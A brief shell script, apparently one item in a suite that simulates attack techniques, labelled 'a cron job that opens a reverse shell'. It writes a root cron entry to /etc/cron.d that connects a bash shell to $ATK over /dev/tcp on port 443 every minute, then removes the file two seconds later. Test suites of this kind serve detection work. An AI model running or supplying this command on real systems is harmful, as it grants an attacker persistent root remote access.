# SPDX-License-Identifier: MIT
# technique: a cron job that opens a reverse shell
# level: high
# quick: no
t0
echo "* * * * * root bash -c 'bash -i >& /dev/tcp/$ATK/443 0>&1'" | sudo tee /etc/cron.d/sync >/dev/null
sleep 2
sudo rm -f /etc/cron.d/sync
